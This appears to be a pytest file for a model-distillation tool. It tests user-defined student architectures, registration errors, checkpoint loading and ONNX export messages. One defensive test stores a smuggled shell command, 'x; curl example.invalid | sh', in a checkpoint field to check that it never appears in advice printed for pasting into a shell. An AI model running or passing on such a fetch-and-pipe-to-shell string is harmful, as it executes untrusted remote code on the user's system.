"""A user's own student architecture, defined outside the project and registered with
`distill.students.register`: found by every command of a fresh process through
SHARPEN_STUDENTS, refused with a message naming the problem when it cannot work."""
import inspect
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import torch
import torch.nn as nn
import torch.nn.functional as F

from distill import students
from distill.checkpoint import CheckpointError, atomic_save, load_student, make_checkpoint
from distill.students import create_student, list_students, register
from runtime.cli_errors import SharpenError

# Not `from tests.conftest import ROOT`: that imports conftest a second time, as another
# module, and its set-up ran again in the worker (OMP_NUM_THREADS back to one process's).
ROOT = Path(__file__).resolve().parents[1]

TINY = textwrap.dedent('''
    import torch.nn as nn
    import torch.nn.functional as F

    from distill.students import register


    class TinyNet(nn.Module):
        multiple = 2

        def __init__(self, width: int = 8):
            super().__init__()
            self.stem = nn.Conv2d(12, width, 3, padding=1)
            self.head = nn.Conv2d(width, 12, 3, padding=1)

        def forward(self, x):
            r = self.head(F.relu(self.stem(F.pixel_unshuffle(x, 2))))
            return x + F.pixel_shuffle(r, 2)


    register("{name}", TinyNet, "a user's tiny student", width=8)
''')


class Tiny(nn.Module):
    multiple = 2

    def __init__(self, width: int = 8):
        super().__init__()
        self.stem = nn.Conv2d(12, width, 3, padding=1)
        self.head = nn.Conv2d(width, 12, 3, padding=1)

    def forward(self, x):
        return x + F.pixel_shuffle(self.head(F.relu(self.stem(F.pixel_unshuffle(x, 2)))), 2)


class Shrink(nn.Module):
    def __init__(self):
        super().__init__()
        self.c = nn.Conv2d(3, 3, 3, padding=1, stride=2)

    def forward(self, x):
        return self.c(x)


def _sharpen(args, tmp_path, **env):
    env = {**os.environ, "PYTHONPATH": f"{tmp_path}{os.pathsep}{ROOT}", "OMP_NUM_THREADS": "1",
           **env}
    return subprocess.run([sys.executable, "-m", "sharpen", *args], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=120)


def test_a_module_named_in_SHARPEN_STUDENTS_registers_in_every_fresh_process(tmp_path):
    (tmp_path / "my_students.py").write_text(TINY.format(name="tiny-user"))
    p = _sharpen(["models", "tiny-user", "--quiet"], tmp_path, SHARPEN_STUDENTS="my_students")
    assert p.returncode == 0, p.stderr
    assert "tiny-user" in p.stdout and "a user's tiny student" in p.stdout
    # Without it, the unknown name says how to make it known.
    p = _sharpen(["models", "tiny-user", "--quiet"], tmp_path, SHARPEN_STUDENTS="")
    assert p.returncode == 2 and "SHARPEN_STUDENTS" in p.stderr


def test_a_module_that_cannot_be_imported_is_named(tmp_path, monkeypatch, registry):
    monkeypatch.setenv("SHARPEN_STUDENTS", "no_such_students_module")
    with pytest.raises(SharpenError, match="SHARPEN_STUDENTS=no_such_students_module: cannot "
                                           "import no_such_students_module.*PYTHONPATH"):
        list_students()


def test_a_module_whose_name_is_taken_is_named(tmp_path, monkeypatch, registry):
    (tmp_path / "clash_students.py").write_text(TINY.format(name="fast"))
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("SHARPEN_STUDENTS", "clash_students")
    with pytest.raises(SharpenError, match=r"SHARPEN_STUDENTS=clash_students: clash_students: "
                                           r"student name 'fast' is already registered \(by "
                                           r"distill\.students\); clash_students must choose"):
        list_students()


def test_a_name_taken_or_unusable_is_refused(registry):
    with pytest.raises(ValueError, match=r"student name 'fast' is already registered \(by "
                                         r"distill\.students\)"):
        register("fast", Tiny, "mine")
    for bad in ("restormer", "my.net", "a,b", "", "my net"):
        with pytest.raises(ValueError, match="student name"):
            register(bad, Tiny, "mine")
    register("tiny-ok", Tiny, "mine")
    register("tiny-ok", Tiny, "mine, imported again")   # the same module again: replaced
    assert students.student_spec("tiny-ok").description == "mine, imported again"


def test_a_student_that_changes_the_frame_shape_is_refused_when_built(registry):
    register("shrink", Shrink, "halves the frame")
    with pytest.raises(ValueError, match=r"student 'shrink' maps a 1x3x24x25 input to "
                                         r"1x3x12x13.*same shape"):
        create_student("shrink")


def test_models_names_a_student_that_changes_the_frame_shape(registry, capsys):
    from sharpen.cli import main

    register("shrink", Shrink, "halves the frame")
    assert main(["models", "shrink", "--quiet"]) == 2   # it was a traceback
    assert capsys.readouterr().err.strip() == (
        "sharpen models: error: student 'shrink' maps a 1x3x24x25 input to 1x3x12x13; a "
        "student must return the same shape as its input (N x 3 x H x W) for H and W "
        "multiples of its `multiple` (1)")


class Pooled(Tiny):
    """A squeeze-excitation gate: every output pixel depends on the whole frame."""

    def forward(self, x):
        y = F.relu(self.stem(F.pixel_unshuffle(x, 2)))
        y = y * torch.sigmoid(y.mean((2, 3), keepdim=True))
        return x + F.pixel_shuffle(self.head(y), 2)


def test_a_global_receptive_field_is_called_global_not_the_probes_size(registry, capsys):
    """A student with global pooling (or an FFT, or attention over the frame) was listed with
    a receptive field of 4096 px, the probe's largest size, and its export warned that parity
    images under 4096 px see mostly padding: no image is large enough for a global field, and
    none needs to be (every pixel sees the whole image)."""
    import warnings

    from optimize.export_data import _warn_small_parity
    from optimize.export_progress import Progress
    from runtime_fixtures import table_rows
    from sharpen.cli import main

    register("pooled", Pooled, "an SE gate")
    register("tiny-local", Tiny, "local")
    assert main(["models", "pooled", "tiny-local", "--quiet"]) == 0
    out = capsys.readouterr().out
    rows = {r[0]: r[3] for r in table_rows(out)}
    assert rows["pooled"] == "global" and rows["tiny-local"] == "10", rows
    # Right-aligned, as the column of numbers it is (a word in it left-aligned them all)
    lines = out.splitlines()
    head = next(ln for ln in lines if ln.startswith("name"))
    end = head.index("receptive field px") + len("receptive field px")
    for name, field in (("pooled", "global"), ("tiny-local", "10")):
        line = next(ln for ln in lines if ln.startswith(name))
        assert line[end - len(field):end] == field, out
    field = students.receptive_field(create_student("pooled"))
    with warnings.catch_warnings(record=True) as said:
        warnings.simplefilter("always")
        _warn_small_parity([("a", torch.zeros(64, 64, 3).numpy())], field, Progress(), True)
    assert not said, [str(w.message) for w in said]


class _Spectral(nn.Module):
    def forward(self, x):
        return torch.fft.irfft2(torch.fft.rfft2(x) * 0.5, s=x.shape[-2:])


class Spectral(Tiny):
    """An FFT block, as in spectral deblurring networks: ONNX opset 17 has no rfft2."""

    def __init__(self, width: int = 8):
        super().__init__(width)
        self.fft = _Spectral()

    def forward(self, x):
        return x + self.fft(super().forward(x) - x)


def test_an_operator_onnx_lacks_is_named_with_its_layer_and_line_not_a_graph_dump(tmp_path,
                                                                                 capfd):
    """An FFT block failed the ONNX export with torch's 40-line "Torch IR graph at exception"
    on stdout (amid `sharpen export`'s table) and "Exporting the operator 'aten::fft_rfft2'
    ... is not supported": not which block of the student, nor which line of its code."""
    from optimize.onnx_export import export_onnx

    with pytest.raises(torch.onnx.errors.UnsupportedOperatorError) as e:
        export_onnx(Spectral().eval(), tmp_path / "s.onnx")
    line = inspect.getsourcelines(_Spectral.forward)[1] + 1
    assert str(e.value) == (
        "Exporting the operator 'aten::fft_rfft2' to ONNX opset version 17 is not supported; "
        f"Spectral uses it in fft (_Spectral), at {__file__}:{line}: `return torch.fft.irfft2("
        "torch.fft.rfft2(x) * 0.5, s=x.shape[-2:])`")
    assert "Torch IR graph" not in "".join(capfd.readouterr())   # stdout: the table's


def test_the_onnx_exporters_log_is_left_where_it_was(tmp_path, capfd):
    """export_onnx sent torch's ONNX log to stderr for the rest of the process, a setting of
    torch's that a program exporting its own models after ours never made: its failures' graph
    dump no longer went where torch puts it (stdout)."""
    import io

    from optimize.onnx_export import export_onnx

    with pytest.raises(torch.onnx.errors.UnsupportedOperatorError):
        export_onnx(Spectral().eval(), tmp_path / "s.onnx")
    capfd.readouterr()
    with pytest.raises(torch.onnx.errors.UnsupportedOperatorError):
        torch.onnx.export(Spectral().eval(), (torch.rand(1, 3, 16, 16),), io.BytesIO(),
                          dynamo=False)
    out, err = capfd.readouterr()
    assert "Torch IR graph at exception" in out and "Torch IR graph" not in err, (out, err)


class Plain(nn.Module):   # no `multiple`: any size
    def __init__(self):
        super().__init__()
        self.c = nn.Conv2d(3, 3, 3, padding=1)

    def forward(self, x):
        return x + self.c(x)


class Unshuffled(Tiny):   # needs H and W multiples of 2 and says nothing
    multiple = 1


def test_a_student_without_multiple_is_listed_and_one_that_needs_it_is_told(registry, capsys):
    """`multiple` defaults to 1 (register's docstring, the README), but `sharpen models` read
    it as an attribute: a student without one crashed it (AttributeError traceback). One that
    needs it (pixel_unshuffle) and lacks it passed the shape check, to fail later on the first
    frame of an odd size."""
    from runtime_fixtures import table_rows
    from sharpen.cli import main

    register("plain", Plain, "no multiple")
    assert main(["models", "plain", "--quiet"]) == 0
    assert table_rows(capsys.readouterr().out)[1][5] == "1"
    register("unshuffled", Unshuffled, "multiple 1, unshuffle 2")
    with pytest.raises(ValueError, match=r"^student 'unshuffled' fails on a 1x3x24x25 input "
                       r"\(.*pixel_unshuffle.*\): if H and W must be multiples of a number, "
                       r"set the class attribute `multiple` to it \(it is 1\)"):
        create_student("unshuffled")


class Miswired(nn.Module):   # 8 channels into a conv that takes 4: no size would do
    def __init__(self):
        super().__init__()
        self.a, self.b = nn.Conv2d(3, 8, 3, padding=1), nn.Conv2d(4, 3, 3, padding=1)

    def forward(self, x):
        return x + self.b(self.a(x))


def test_a_student_that_fails_at_every_size_is_not_told_to_set_multiple(registry):
    """A student whose layers do not fit each other failed its build with "if H and W must be
    multiples of a number, set the class attribute `multiple`", which no `multiple` cures; the
    hint is for a student that runs at a size of a larger multiple."""
    register("miswired", Miswired, "a conv of 4 channels fed 8")
    with pytest.raises(ValueError) as e:
        create_student("miswired")
    assert str(e.value).startswith("student 'miswired' fails on a 1x3x24x25 input (Given "
                                   "groups=1, weight of size [3, 4, 3, 3], expected input"), e
    assert "multiple" not in str(e.value), e


def test_a_checkpoint_of_a_student_this_process_lacks_says_what_to_set(tmp_path, registry):
    register("tiny-ck", Tiny, "mine")
    m = create_student("tiny-ck")
    ck = make_checkpoint(m, kind="student", arch="tiny-ck", arch_args=m.arch_args)
    assert ck["arch_module"] == __name__
    atomic_save(ck, tmp_path / "t.pt")
    assert torch.equal(load_student(tmp_path / "t.pt")[0].head.weight, m.head.weight)
    del students._REGISTRY["tiny-ck"]
    with pytest.raises(CheckpointError, match=f"student 'tiny-ck' is not registered in this "
                                              f"process; module {__name__} registered it .*"
                                              f"set SHARPEN_STUDENTS={__name__}, with"):
        load_student(tmp_path / "t.pt")


def test_a_checkpoint_saved_under_another_module_says_whose_definition_loads(tmp_path,
                                                                               registry):
    """A name registered by one module when saved and by another now loads the weights into
    the other's definition (same layer names and shapes: no error): said, naming both."""
    import warnings
    register("tiny-ck3", Tiny, "mine")
    m = create_student("tiny-ck3")
    ck = make_checkpoint(m, kind="student", arch="tiny-ck3", arch_args=m.arch_args)
    atomic_save({**ck, "arch_module": "old_students"}, tmp_path / "moved.pt")
    atomic_save(ck, tmp_path / "same.pt")
    with warnings.catch_warnings(record=True) as said:
        warnings.simplefilter("always")
        load_student(tmp_path / "same.pt")
        assert not said, [str(w.message) for w in said]
        load_student(tmp_path / "moved.pt")
    assert any("registered by old_students when it was saved" in str(w.message)
               and f"{__name__} registers it now" in str(w.message) for w in said), \
        [str(w.message) for w in said]


def test_built_in_checkpoints_record_no_module():
    m = create_student("fast", width=8, blocks=1, low_blocks=1)
    assert "arch_module" not in make_checkpoint(m, kind="student", arch="fast",
                                                arch_args=m.arch_args)


def test_a_variant_of_a_built_in_class_records_its_own_module(tmp_path, monkeypatch, registry):
    # The builder's module was recorded: distill.students, which registers no 'fast-tiny', and
    # a process without the user's module was told to set SHARPEN_STUDENTS=distill.students.
    (tmp_path / "variant_students.py").write_text(textwrap.dedent('''
        from distill.students import FastStudent, register

        register("fast-tiny", FastStudent, "fast, narrower", width=8, blocks=1, low_blocks=1)
    '''))
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("SHARPEN_STUDENTS", "variant_students")
    m = create_student("fast-tiny")
    ck = make_checkpoint(m, kind="student", arch="fast-tiny", arch_args=m.arch_args)
    assert ck["arch_module"] == "variant_students"


def test_a_built_in_name_is_refused_to_a_built_in_class_too(registry):
    # Same builder module as the built-in's, so 'fast' was silently replaced by another model.
    from distill.students import FastStudent

    with pytest.raises(ValueError, match=r"student name 'fast' is already registered \(by "
                                         rf"distill\.students\); {__name__} must choose"):
        register("fast", FastStudent, "fast, wider", width=64)
    assert create_student("fast").stem.out_channels == 32


def test_a_script_may_name_itself_in_SHARPEN_STUDENTS(tmp_path):
    # Run as __main__ it registers first; the import SHARPEN_STUDENTS makes (as every loader
    # worker and rank does) registers again, under its module name: that was refused.
    (tmp_path / "train_tiny.py").write_text(TINY.format(name="tiny-script") + textwrap.dedent('''
        from distill.students import list_students, student_module

        print(list_students(), student_module("tiny-script"))
    '''))
    env = {**os.environ, "PYTHONPATH": f"{tmp_path}{os.pathsep}{ROOT}", "OMP_NUM_THREADS": "1",
           "SHARPEN_STUDENTS": "train_tiny"}
    p = subprocess.run([sys.executable, "train_tiny.py"], cwd=tmp_path, env=env,
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    assert "'tiny-script'" in p.stdout and p.stdout.strip().endswith(" train_tiny")


def test_a_script_cannot_take_a_built_in_name(registry):
    with pytest.raises(ValueError, match=r"student name 'seed' is already registered \(by "
                                         r"distill\.students\); __main__ must choose"):
        exec("register('seed', Tiny, 'mine')",
             {"__name__": "__main__", "register": register, "Tiny": Tiny})


def test_a_checkpoint_cannot_put_a_command_in_the_advice(tmp_path, registry):
    # The advice is for a shell: a checkpoint (untrusted input) recording a "module" such as
    # this had it printed as SHARPEN_STUDENTS=... for the user to paste.
    register("tiny-ck2", Tiny, "mine")
    m = create_student("tiny-ck2")
    ck = make_checkpoint(m, kind="student", arch="tiny-ck2", arch_args=m.arch_args)
    atomic_save({**ck, "arch_module": "x; curl example.invalid | sh"}, tmp_path / "t.pt")
    del students._REGISTRY["tiny-ck2"]
    with pytest.raises(CheckpointError) as e:
        load_student(tmp_path / "t.pt")
    assert "curl" not in str(e.value)
    assert "name the module that registers it in SHARPEN_STUDENTS" in str(e.value)


class Shifted(nn.Module):
    def __init__(self, shift: int = 0, seed: int = 0):
        super().__init__()
        self.shift, self.seed = shift, seed
        self.c = nn.Conv2d(3, 3, 3, padding=1)

    def forward(self, x):
        return self.c(x)


def test_a_students_own_whole_numbers_are_not_held_to_the_built_ins_sizes(registry):
    # The built-ins' size range (0 or 1 to 4096) refused a user's shift=-1 and seed=12345.
    register("shifted", Shifted, "mine", shift=-1, seed=12345)
    assert (create_student("shifted").shift, create_student("shifted").seed) == (-1, 12345)
    with pytest.raises(ValueError, match=r"student 'shifted' argument seed='1': expected a whole"):
        create_student("shifted", seed="1")
    with pytest.raises(ValueError, match=r"student 'fast' argument width=5000: expected 1 to"):
        create_student("fast", width=5000)


def _saved_run(tmp_path, name: str) -> None:
    """tmp_path/mymodule.py registering TINY as `name`, and run/last.pt, a distill run's
    checkpoint of it at step 3, saved by another process (this one never imports mymodule)."""
    (tmp_path / "mymodule.py").write_text(TINY.format(name=name))
    script = textwrap.dedent(f'''
        import mymodule
        from distill.checkpoint import atomic_save, make_checkpoint
        from distill.students import create_student
        m = create_student("{name}")
        atomic_save(make_checkpoint(m, kind="student", arch="{name}",
                                    arch_args=m.arch_args, step=3), "run/last.pt")
    ''')
    env = {**os.environ, "PYTHONPATH": f"{tmp_path}{os.pathsep}{ROOT}"}
    (tmp_path / "run").mkdir(exist_ok=True)
    subprocess.run([sys.executable, "-c", script], cwd=tmp_path, env=env, check=True,
                   timeout=120)


def test_a_resumed_run_in_a_shell_without_the_module_names_it(tmp_path):
    """A fresh shell without SHARPEN_STUDENTS that goes on with a run of a student of one's own
    (resume=auto, resume=CKPT), or scores or exports its checkpoint, is told the module the
    checkpoint recorded (the distill run got the general hint), never has it imported."""
    _saved_run(tmp_path, "tiny-resumed")
    said = "module mymodule registered it when this checkpoint was saved: set " \
           "SHARPEN_STUDENTS=mymodule, with its folder on PYTHONPATH"
    distill = ["distill", "--config", str(ROOT / "configs/distill-fast.yaml"),
               "model.arch=tiny-resumed"]
    for args in ([*distill, "out=run"], [*distill, "out=branch", "resume=run/last.pt"],
                 ["evaluate", "--weights", "seed", "run/last.pt", "--data", "nowhere"],
                 ["export", "--weights", "run/last.pt", "--formats", "onnx", "--out", "ex"]):
        p = _sharpen(args, tmp_path, SHARPEN_STUDENTS="")
        assert p.returncode == 2, (args, p.stderr)
        assert said in p.stderr and "run/last.pt: " in p.stderr, (args, p.stderr)
        assert "registers it in SHARPEN_STUDENTS" not in p.stderr
    # A run that names another model than the checkpoint holds gets no module of that one.
    p = _sharpen([*distill[:-1], "model.arch=tiny-other", "out=run"], tmp_path,
                 SHARPEN_STUDENTS="")
    assert p.returncode == 2 and "mymodule" not in p.stderr, p.stderr


def test_a_run_resumed_after_its_students_definition_was_edited_says_so(tmp_path):
    """A researcher adds a layer to their student and reruns the same command: the resume
    failed with torch's load_state_dict traceback (exit 1), where `sharpen evaluate` of the
    same checkpoint said what does not match and why."""
    _saved_run(tmp_path, "tiny-edited")
    edited = TINY.format(name="tiny-edited").replace(
        "self.head = nn.Conv2d(width, 12, 3, padding=1)",
        "self.head = nn.Conv2d(width, 12, 3, padding=1)\n        self.extra = nn.Conv2d(12, 12, 1)")
    assert edited != TINY.format(name="tiny-edited")
    (tmp_path / "mymodule.py").write_text(edited)
    p = _sharpen(["distill", "--config", str(ROOT / "configs/distill-fast.yaml"),
                  "model.arch=tiny-edited", "out=run"], tmp_path, SHARPEN_STUDENTS="mymodule")
    assert p.returncode == 2 and "Traceback" not in p.stderr, p.stderr
    assert "cannot resume from run/last.pt" in p.stderr and "extra.weight" in p.stderr, p.stderr
    assert "resume=never" in p.stderr, p.stderr


@pytest.mark.parametrize("recorded", ["__main__", "pkg.__main__", "/home/me/students.py",
                                      "C:\\mine\\students", "my-students", "import", "", None, 3])
def test_a_recorded_module_no_import_can_name_is_not_suggested(recorded):
    """The checkpoint is untrusted input, and its advice is pasted into a shell: `__main__` (a
    student registered by a script run directly) passed the name check and was suggested as
    SHARPEN_STUDENTS=__main__, which names the program running (sharpen), never the student's."""
    from distill.checkpoint import registering_module_hint

    assert registering_module_hint({"arch_module": recorded}) is None
    assert "SHARPEN_STUDENTS=pkg.mine," in registering_module_hint({"arch_module": "pkg.mine"})


class Sampled(Tiny):
    """A student whose layout is computed from a tensor's values in `__init__`, as a user's
    may be (a kernel or a schedule worked out in numpy)."""

    def __init__(self, width: int = 8):
        super().__init__(width)
        self.taps = [float(v) for v in torch.linspace(0, 1, 3).numpy()]


def test_a_student_whose_init_reads_tensor_values_still_loads(tmp_path, registry):
    """Checkpoints are first laid out on the meta device, where a tensor has no values:
    `.numpy()` raises TypeError there, which was taken for arguments that build no student,
    and a checkpoint of one's own that loaded before was refused."""
    register("sampled", Sampled, "reads tensor values when built")
    m = create_student("sampled")
    atomic_save(make_checkpoint(m, kind="student", arch="sampled", arch_args=m.arch_args),
                tmp_path / "s.pt")
    loaded, _ = load_student(tmp_path / "s.pt")
    assert torch.equal(loaded.head.weight, m.head.weight) and loaded.taps == [0.0, 0.5, 1.0]
    with pytest.raises(CheckpointError, match="do not build a 'sampled' student"):
        bad = make_checkpoint(m, kind="student", arch="sampled", arch_args={"depth": 3})
        atomic_save(bad, tmp_path / "bad.pt")
        load_student(tmp_path / "bad.pt")


class Counted(Tiny):
    """Tiny, counting its forward passes."""
    calls = 0

    def forward(self, x):
        Counted.calls += 1
        return super().forward(x)


def test_loading_a_student_checks_its_output_shape_once(tmp_path, registry):
    """The meta-device probe that checks a checkpoint's layout against its weights ran the
    shape check's forward pass too, before the real build ran it again: a student's load
    took up to twice as long (the shipped edge student's, ~0.3 s more)."""
    register("counted", Counted, "counts its forward passes")
    m = create_student("counted")
    atomic_save(make_checkpoint(m, kind="student", arch="counted", arch_args=m.arch_args),
                tmp_path / "c.pt")
    Counted.calls = 0
    loaded, _ = load_student(tmp_path / "c.pt")
    assert Counted.calls == 1 and torch.equal(loaded.head.weight, m.head.weight)
